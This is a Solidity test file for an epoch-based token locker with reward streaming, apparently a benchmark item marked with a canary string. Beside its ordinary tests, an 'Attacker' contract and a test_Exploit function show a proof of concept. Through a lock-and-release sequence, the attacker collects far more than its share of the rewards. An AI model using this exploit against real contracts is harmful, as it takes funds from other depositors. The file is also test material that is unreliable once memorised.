// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-260fd8f1-6fd2-4dab-9a58-ede9c1f17690

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./EpochLocker.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    address private immutable _issuer = msg.sender;

    constructor(string memory name_, string memory symbol_) ERC20(name_, symbol_) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == _issuer, "Coin: issuer only");
        _mint(to, amount);
    }
}

/// An account like any other.
contract Attacker {
    EpochLocker private _locker;

    constructor(EpochLocker locker) {
        _locker = locker;
    }

    function prepare(uint256 epoch, uint256 most) external {
        _locker.lockToken().approve(address(_locker), type(uint256).max);
        _locker.lock(epoch, 1e18);
        _locker.lock(epoch + 3, most);
    }

    function settle(uint256 epoch) external {
        _locker.release(epoch, 1e18);
    }

    function collect() external {
        _locker.claim(address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADA = address(0xADA);
    address private constant BEN = address(0xBE11);
    address private constant CARL = address(0xCA41);
    address private constant TREASURY = address(0x7EA);

    Coin public coin;
    Coin public token;
    EpochLocker public locker;
    Attacker public holder;
    uint256 public q;
    uint256 public start;

    function setUp() public {
        vm.warp(1_790_000_000);
        coin = new Coin("Governance Token", "GOV");
        token = new Coin("Reward Dollar", "RUSD");
        locker = new EpochLocker(coin, token, address(this));
        q = locker.currentEpoch();
        open(ADA, 400_000e18);
        open(BEN, 200_000e18);
        open(CARL, 10_010e18);
        holder = new Attacker(locker);
        coin.mint(address(holder), 100_000e18);
        token.mint(address(this), 1_000_000e18);
        token.approve(address(locker), type(uint256).max);
        vm.prank(ADA);
        locker.lock(q, 300_000e18);
        vm.prank(BEN);
        locker.lock(q, 100_000e18);
        holder.prepare(q, 99_999e18);
        start = locker.endOf(q);
        vm.warp(start);
        locker.fund(400_000e18, 40 days);
    }

    function open(address who, uint256 amount) private {
        coin.mint(who, amount);
        vm.prank(who);
        coin.approve(address(locker), type(uint256).max);
    }

    function near(uint256 value, uint256 wanted) private pure returns (bool) {
        return value <= wanted + 1e9 && value + 1e9 >= wanted;
    }

    function test_Regular() public {
        require(locker.totalLocked() == 500_000e18 && locker.totalAt(q) == 400_001e18, "locked");
        require(locker.lockedAt(ADA, q) == 300_000e18 && locker.lockedOf(address(holder)) == 100_000e18, "books");
        require(locker.listedEpochs().length == 2 && locker.releasable(ADA) == 300_000e18 && locker.earned(ADA) == 0, "at first");

        // Ten days, then half of Ada's lock goes and Ben's becomes longer.
        vm.warp(start + 10 days);
        require(near(locker.earned(ADA), 60_000e18) && near(locker.earned(BEN), 20_000e18), "by weight");
        vm.prank(ADA);
        locker.release(q, 150_000e18);
        require(coin.balanceOf(ADA) == 250_000e18 && locker.totalLocked() == 350_000e18, "released");
        vm.prank(BEN);
        locker.lock(q + 2, 100_000e18);
        vm.prank(BEN);
        locker.postpone(q + 2, q + 5, 60_000e18);
        require(locker.lockedAt(BEN, q + 5) == 60_000e18 && locker.totalAt(q + 2) == 40_000e18, "postponed");
        require(locker.epochsOf(BEN).length == 3 && locker.releasable(BEN) == 100_000e18, "three locks");
        ladder();

        // Ten more days with 460,000 locked, of which 150,000 are Ada's.
        vm.warp(start + 20 days);
        uint256 due = locker.earned(ADA);
        require(near(due, 60_000e18 + uint256(15_000_000e18) / 460), "less of the whole");
        vm.prank(ADA);
        require(locker.claim(TREASURY) == due && token.balanceOf(TREASURY) == due, "claimed");
        require(locker.earned(ADA) == 0, "once");
        moving();
        streams();
        roles();
    }

    function ladder() private {
        uint256[] memory epochs = new uint256[](2);
        uint256[] memory amounts = new uint256[](2);
        (epochs[0], epochs[1], amounts[0], amounts[1]) = (q + 6, q + 7, 2_000e18, 3_000e18);
        vm.startPrank(CARL);
        locker.lockLadder(epochs, amounts);
        locker.lockFor(BEN, q + 7, 5_000e18);
        vm.stopPrank();
        require(locker.lockedOf(CARL) == 5_000e18 && locker.lockedOf(BEN) == 205_000e18, "a ladder and a present");
        require(locker.totalAt(q + 7) == 8_000e18 && locker.totalLocked() == 460_000e18, "together");
    }

    function moving() private {
        uint256 had = locker.earned(BEN);
        uint256 his = locker.earned(CARL);
        vm.prank(BEN);
        locker.moveLock(CARL, q + 5, 60_000e18);
        require(locker.earned(BEN) == had && locker.earned(CARL) == his, "so far");
        require(locker.lockedOf(CARL) == 65_000e18 && locker.lockedAt(BEN, q + 5) == 0, "moved");
        require(locker.totalAt(q + 5) == 60_000e18 && locker.totalLocked() == 460_000e18, "the same in all");
        vm.prank(CARL);
        locker.postpone(q + 5, q + 9, 60_000e18);
        require(locker.totalAt(q + 5) == 0 && locker.totalLocked() == 460_000e18, "one epoch is empty");
        require(locker.listedEpochs().length == 6, "and off the list");
        vm.warp(start + 30 days);
        require(near(locker.earned(CARL) - his, uint256(6_500_000_000e18) / 460_000), "by its new weight");
    }

    function streams() private {
        // The fee, and what is left of the stream.
        locker.setFee(TREASURY, 500);
        uint256 had = token.balanceOf(TREASURY);
        locker.fund(20_000e18, 20 days);
        require(token.balanceOf(TREASURY) == had + 1_000e18, "fee");
        require(near(locker.rewardRate() * 20 days, 119_000e18) && locker.streamEnds() == start + 50 days, "both");
        vm.warp(start + 90 days);
        uint256 sum = locker.earned(ADA) + locker.earned(BEN) + locker.earned(CARL) + locker.earned(address(holder));
        require(sum <= token.balanceOf(address(locker)) && sum + 1e12 >= token.balanceOf(address(locker)), "covered");

        // Nothing is locked for ten days of a stream: they are for the next one.
        EpochLocker other = new EpochLocker(coin, token, address(this));
        token.approve(address(other), 40_000e18);
        other.fund(20_000e18, 20 days);
        vm.warp(start + 100 days);
        vm.startPrank(CARL);
        coin.approve(address(other), 10e18);
        other.lock(q + 2, 10e18);
        vm.stopPrank();
        require(near(other.idleRewards(), 10_000e18), "idle");
        other.fund(20_000e18, 40 days);
        require(near(other.rewardRate() * 40 days, 40_000e18), "not lost");
    }

    function roles() private {
        locker.pause();
        vm.prank(BEN);
        locker.release(q, 1e18);
        locker.unpause();
        Coin stray = new Coin("Stray", "STR");
        stray.mint(address(locker), 5e18);
        locker.recover(stray, TREASURY, 5e18);
        require(stray.balanceOf(TREASURY) == 5e18, "recovered");
        locker.grantRole(locker.DISTRIBUTOR_ROLE(), CARL);
        token.mint(CARL, 10_000e18);
        vm.startPrank(CARL);
        token.approve(address(locker), 10_000e18);
        locker.fund(10_000e18, 1 days);
        vm.stopPrank();
        locker.revokeRole(locker.DISTRIBUTOR_ROLE(), CARL);
        locker.renounceRole(locker.PAUSER_ROLE(), address(this));
        require(!locker.hasRole(locker.PAUSER_ROLE(), address(this)), "renounced");
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function lacks(bytes32 role) private {
        refuses(ADA, abi.encodeWithSignature("AccessControlUnauthorizedAccount(address,bytes32)", ADA, role));
    }

    function test_RefusesStrangers() public {
        bytes32 distributor = locker.DISTRIBUTOR_ROLE();
        bytes32 pauser = locker.PAUSER_ROLE();
        lacks(distributor);
        locker.fund(0, 1 days);
        lacks(pauser);
        locker.pause();
        lacks(bytes32(0));
        locker.setFee(ADA, 0);
        lacks(bytes32(0));
        locker.recover(IERC20(address(0)), ADA, 0);
        locker.pause();
        lacks(pauser);
        locker.unpause();
    }

    function test_RefusesLocks() public {
        uint256[] memory two = new uint256[](2);
        vm.startPrank(BEN);
        vm.expectRevert("EpochLocker: epoch");
        locker.lock(q, 1e18);
        vm.expectRevert("EpochLocker: epoch");
        locker.lock(q + 14, 1e18);
        vm.expectRevert("EpochLocker: no amount");
        locker.lock(q + 1, 0);
        vm.expectRevert("EpochLocker: account");
        locker.lockFor(address(0), q + 1, 1e18);
        vm.expectRevert("EpochLocker: lengths");
        locker.lockLadder(two, new uint256[](1));
        vm.expectRevert("EpochLocker: not later");
        locker.postpone(q, q, 1e18);
        locker.lock(q + 2, 10e18);
        vm.expectRevert("EpochLocker: not later");
        locker.postpone(q + 2, q + 1, 1e18);
        vm.expectRevert("EpochLocker: account");
        locker.moveLock(address(0), q, 1e18);
        vm.expectRevert("EpochLocker: account");
        locker.moveLock(BEN, q, 1e18);
        vm.expectRevert("EpochLocker: amount");
        locker.moveLock(ADA, q, 100_000e18 + 1);
        vm.expectRevert("EpochLocker: locked");
        locker.release(q + 2, 1e18);
        vm.expectRevert("EpochLocker: amount");
        locker.release(q, 0);
        vm.expectRevert("EpochLocker: amount");
        locker.release(q, 100_000e18 + 1);
        vm.expectRevert("EpochLocker: account");
        locker.claim(address(0));
        vm.stopPrank();
    }

    function test_RefusesWhenPaused() public {
        bytes memory why = abi.encodeWithSignature("EnforcedPause()");
        locker.pause();
        refuses(BEN, why);
        locker.lock(q + 1, 1e18);
        refuses(BEN, why);
        locker.lockFor(ADA, q + 1, 1e18);
        refuses(BEN, why);
        locker.lockLadder(new uint256[](0), new uint256[](0));
        refuses(BEN, why);
        locker.postpone(q, q + 1, 1e18);
        refuses(BEN, why);
        locker.moveLock(ADA, q, 1e18);
    }

    function test_RefusesSettings() public {
        vm.expectRevert("EpochLocker: no token");
        new EpochLocker(IERC20(address(0)), token, ADA);
        vm.expectRevert("EpochLocker: no token");
        new EpochLocker(coin, IERC20(address(0)), ADA);
        vm.expectRevert("EpochLocker: same token");
        new EpochLocker(coin, coin, ADA);
        vm.expectRevert("LockerRoles: no admin");
        new EpochLocker(coin, token, address(0));
        vm.expectRevert("LockerRoles: no treasury");
        locker.setFee(address(0), 0);
        vm.expectRevert("LockerRoles: fee");
        locker.setFee(TREASURY, 1_001);
        vm.expectRevert("EpochLocker: duration");
        locker.fund(0, 1 days - 1);
        vm.expectRevert("EpochLocker: duration");
        locker.fund(0, 365 days + 1);
        vm.expectRevert("EpochLocker: token");
        locker.recover(coin, ADA, 1);
        vm.expectRevert("EpochLocker: token");
        locker.recover(token, ADA, 1);
    }

    function exploit() public {
        holder.settle(q);
        vm.warp(start + 10 days);
        holder.collect();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(holder)) >= 90_000e18, "no more than its share");
    }

    function target() public view returns (address) {
        return address(locker);
    }

    function attacker() public view returns (address) {
        return address(holder);
    }
}
